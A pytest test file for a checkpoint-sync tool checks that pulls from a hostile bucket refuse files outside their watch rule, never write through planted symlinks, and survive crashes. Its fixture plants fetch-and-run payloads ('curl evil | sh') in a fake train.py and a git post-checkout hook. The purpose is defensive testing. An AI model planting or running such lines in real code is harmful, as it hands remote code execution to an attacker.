"""Zero-code pull writes only what its rule matches, never through a symlink or outside the
target, and all-or-nothing (DESIGN.md "Remote side").

The bucket is the attacker here: each test pushes a manifest that is valid as a manifest (real
digests, built with ``Manifest.new``) but lists paths its own watch rule does not, or targets a
directory holding a planted symlink, and checks what is on disk after the pull.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from ckptsync.errors import CorruptCheckpointError, LocalStorageError, NoCheckpointError
from ckptsync.local import LocalStore
from ckptsync.manifest import Manifest, make_name
from ckptsync.ownership import RUN_FILE
from ckptsync.remote import RemoteStore
from ckptsync.zerocode import WatchRule, restore_watched
from tests.support.cli import cli
from tests.support.helpers import RecordingOps, fail_at
from tests.support.jsonlines import events, summary
from tests.support.remotes import Remote

pytestmark = pytest.mark.core

EVIL = {
    "ckpt.pt": b"evil weights",
    "train.py": b"import os; os.system('curl evil | sh')\n",
    ".git/hooks/post-checkout": b"#!/bin/sh\ncurl evil | sh\n",
    "linked/planted.txt": b"planted\n",
}


def push_watched(remote: Remote, spool: Path, rule: str, files: dict[str, bytes], *,
                 step: int | None, paths: list[str] | None = None) -> Manifest:
    """Commit a watched version (real digests, as the daemon would) and push it."""
    st = LocalStore(spool).staging(make_name(step))
    for rel, data in files.items():
        st.write_file(rel, data)
    m = Manifest.new(step=step, files=st.entries, name=st.name,
                     source={"kind": "watched", "rule": rule,
                             "paths": list(files) if paths is None else paths})
    return RemoteStore(remote.url, remote.storage_options).push(st.commit(m))



def victim(tmp_path: Path) -> tuple[Path, Path]:
    """A trainer's directory: its code, a git repo, and ``linked`` -> a directory outside."""
    work = tmp_path / "work"
    (work / ".git" / "hooks").mkdir(parents=True)
    (work / "train.py").write_bytes(b"print('train')\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    (work / "linked").symlink_to(outside, target_is_directory=True)
    return work, outside


def assert_untouched(work: Path, outside: Path) -> None:
    assert (work / "train.py").read_bytes() == b"print('train')\n"
    assert list((work / ".git" / "hooks").iterdir()) == []
    assert list(outside.iterdir()) == []
    # No temp dir left behind (the record of the run it continues may be there).
    assert not [p for p in work.iterdir() if p.name.startswith(".ckptsync-")
                and p.name != RUN_FILE]


def test_manifest_listing_paths_outside_its_rule_falls_back_to_the_older_version(
        tmp_path: Path, file_remote: Remote) -> None:
    work, outside = victim(tmp_path)
    good = push_watched(file_remote, tmp_path / "spool", "file:ckpt.pt",
                        {"ckpt.pt": b"good weights"}, step=1)
    evil = push_watched(file_remote, tmp_path / "spool", "file:ckpt.pt", EVIL, step=2,
                        paths=["ckpt.pt"])

    p = cli("pull", file_remote.url, str(work), "--rule", "file:ckpt.pt", "--json")
    assert p.returncode == 4, p.stderr  # it fell back from the newest committed version
    assert [(e["event"], e["name"]) for e in events(p.stdout)] == [
        ("skipped", evil.name), ("restored", good.name)]
    assert events(p.stdout, "restored")[0]["paths"] == ["ckpt.pt"]
    assert summary(p.stdout) == {"event": "summary", "command": "pull", "restored": 1,
                                 "skipped": 1, "fell_back": True, "exit_code": 4}
    assert (work / "ckpt.pt").read_bytes() == b"good weights"
    assert evil.name in p.stderr and "train.py" in p.stderr  # the refusal, logged
    assert_untouched(work, outside)

    p = cli("pull", file_remote.url, str(work), "--name", evil.name, "--rule",
                 "file:ckpt.pt")
    assert p.returncode == 1
    assert "train.py" in p.stderr and "not written" in p.stderr and "Traceback" not in p.stderr
    assert (work / "ckpt.pt").read_bytes() == b"good weights"
    assert_untouched(work, outside)


def test_manifest_listing_paths_outside_its_rule_without_older_version_fails(
        tmp_path: Path, s3_remote: Remote) -> None:
    work, outside = victim(tmp_path)
    evil = push_watched(s3_remote, tmp_path / "spool", "file:ckpt.pt", EVIL, step=2,
                        paths=["ckpt.pt"])
    store = RemoteStore(s3_remote.url, s3_remote.storage_options)
    with pytest.raises(NoCheckpointError, match=r"train\.py"):
        restore_watched(store, work)
    with pytest.raises(CorruptCheckpointError, match=rf"{evil.name}.*train\.py.*not written"):
        restore_watched(store, work, evil.name)
    assert not (work / "ckpt.pt").exists()
    assert_untouched(work, outside)


@pytest.mark.parametrize(("rule", "files", "paths", "offender"), [
    ("file:*.pt", {"a.pt": b"a", "sub/b.pt": b"b"}, None, "sub/b.pt"),  # * stays in one part
    ("file:ckpt.pt", {"ckpt.pt": b"a"}, ["ckpt.pt", "train.py"], "train.py"),  # paths != files
    ("dir:checkpoint-*:DONE", {"checkpoint-1/DONE": b"", "checkpoint-2/m.pt": b"m"}, None,
     "checkpoint-2/m.pt"),  # one version is one directory
    ("dir:checkpoint-*:DONE", {"checkpoint-1": b"x"}, None, "checkpoint-1"),  # not inside it
    ("file:.ckptsync-watch/x", {".ckptsync-watch/x": b"x"}, None, ".ckptsync-watch/x"),
    ("nonsense", {"ckpt.pt": b"x"}, None, "nonsense"),  # unparseable rule
])
def test_inconsistent_watched_manifests_are_refused_whole(
        tmp_path: Path, file_remote: Remote, rule: str, files: dict[str, bytes],
        paths: list[str] | None, offender: str) -> None:
    m = push_watched(file_remote, tmp_path / "spool", rule, files, step=1, paths=paths)
    work = tmp_path / "work"
    with pytest.raises(CorruptCheckpointError, match="not written") as e:
        restore_watched(RemoteStore(file_remote.url), work, m.name)
    assert offender in str(e.value)
    assert [p.name for p in work.iterdir()] == []


def test_pinned_rule_ignores_versions_of_other_rules(tmp_path: Path, file_remote: Remote) -> None:
    work, outside = victim(tmp_path)
    push_watched(file_remote, tmp_path / "spool", "file:ckpt.pt", {"ckpt.pt": b"w"}, step=1)
    push_watched(file_remote, tmp_path / "spool", "file:train.py", {"train.py": b"evil"}, step=2)
    p = cli("pull", file_remote.url, str(work), "--rule", "file:ckpt.pt", "--json")
    assert p.returncode == 0, p.stderr
    assert [e["paths"] for e in events(p.stdout, "restored")] == [["ckpt.pt"]]
    assert (work / "ckpt.pt").read_bytes() == b"w"
    assert_untouched(work, outside)


@pytest.mark.parametrize("planted", ["parent", "file"])
def test_symlink_inside_the_target_is_never_written_through(
        tmp_path: Path, file_remote: Remote, planted: str) -> None:
    push_watched(file_remote, tmp_path / "spool", "file:sub/ckpt.pt",
                 {"sub/ckpt.pt": b"weights"}, step=1)
    work, outside = victim(tmp_path)
    if planted == "parent":
        (work / "sub").symlink_to(outside, target_is_directory=True)
        refused = "sub"
    else:
        (work / "sub").mkdir()
        (outside / "ckpt.pt").write_bytes(b"theirs")
        (work / "sub" / "ckpt.pt").symlink_to(outside / "ckpt.pt")
        refused = "sub/ckpt.pt"
    with pytest.raises(LocalStorageError, match=f"{work / refused}.*symlink"):
        restore_watched(RemoteStore(file_remote.url), work)
    assert sorted(p.name for p in outside.iterdir()) == ([] if planted == "parent"
                                                          else ["ckpt.pt"])
    if planted == "file":
        assert (outside / "ckpt.pt").read_bytes() == b"theirs"
    assert not [p for p in work.iterdir() if p.name.startswith(".ckptsync-")]


class Crash(BaseException):
    """The process dying mid-pull (not an Exception: nothing may catch and tidy it)."""


def test_crash_mid_move_is_finished_by_the_next_pull_never_a_mix(
        tmp_path: Path, file_remote: Remote) -> None:
    store = RemoteStore(file_remote.url)
    work = tmp_path / "work"
    old = {"a.pt": b"a1", "b.pt": b"b1", "c.pt": b"c1"}
    new = {"a.pt": b"a2", "b.pt": b"b2", "c.pt": b"c2"}
    push_watched(file_remote, tmp_path / "spool", "file:*.pt", old, step=1)
    restore_watched(store, work)
    push_watched(file_remote, tmp_path / "spool", "file:*.pt", new, step=2)

    ops = fail_at(1, Crash, ops=("replace_at",))  # dies before the 2nd file is moved
    with pytest.raises(Crash):
        restore_watched(store, work, ops=ops)
    got = {rel: (work / rel).read_bytes() for rel in new}
    assert sum(got[r] == new[r] for r in new) == 1  # the crash left a mix on disk...
    assert [p.name for p in work.iterdir() if p.name.startswith(".ckptsync-restore-")]

    (tmp_path / "remote").rename(tmp_path / "gone")  # ...which the next pull finishes first,
    with pytest.raises(NoCheckpointError):  # even when it cannot reach the remote
        restore_watched(store, work)
    assert {rel: (work / rel).read_bytes() for rel in new} == new
    assert sorted(p.name for p in work.iterdir() if p.name != RUN_FILE) == sorted(new)


def test_dir_rule_marker_moves_last(tmp_path: Path, file_remote: Remote) -> None:
    files = {"checkpoint-7/DONE": b"", "checkpoint-7/model.pt": b"m", "checkpoint-7/z.pt": b"z"}
    push_watched(file_remote, tmp_path / "spool", "dir:checkpoint-*:DONE", files, step=7)
    ops = RecordingOps()
    restored = restore_watched(RemoteStore(file_remote.url), tmp_path / "work", ops=ops)
    moved = [path.rsplit(" -> ", 1)[1] for op, path in ops.calls if op == "replace_at"]
    assert len(moved) == 3 and moved[-1] == "DONE"
    assert [f.path for m in restored for f in m.files] == sorted(files)
    assert {rel: (tmp_path / "work" / rel).read_bytes() for rel in files} == files


def test_native_pull_never_writes_through_a_planted_symlink(
        tmp_path: Path, file_remote: Remote) -> None:
    spool = LocalStore(tmp_path / "spool")
    st = spool.staging(make_name(3))
    st.write_file("model.pt", b"weights")
    m = RemoteStore(file_remote.url).push(st.commit(Manifest.new(step=3, files=st.entries,
                                                                 name=st.name)))
    local = tmp_path / "local"
    local.mkdir()
    outside = tmp_path / "outside"
    outside.mkdir()
    for planted in (m.name, f".staging-{m.name}"):
        (local / planted).symlink_to(outside, target_is_directory=True)
        with pytest.raises(LocalStorageError, match=f"{local / planted}.*symlink"):
            RemoteStore(file_remote.url).pull(m.name, LocalStore(local))
        assert list(outside.iterdir()) == []
        (local / planted).unlink()
    got = RemoteStore(file_remote.url).pull(m.name, LocalStore(local))
    assert got.file("model.pt").read_bytes() == b"weights"


def test_leftover_restore_dirs_are_private_to_the_daemon() -> None:
    rule = WatchRule.parse("file:**/*.pt")
    assert rule.matches_file("a/b.pt") and rule.matches_file("b.pt")
    assert not rule.matches_file(".ckptsync-restore-1a2b3c4d/step-1/b.pt")
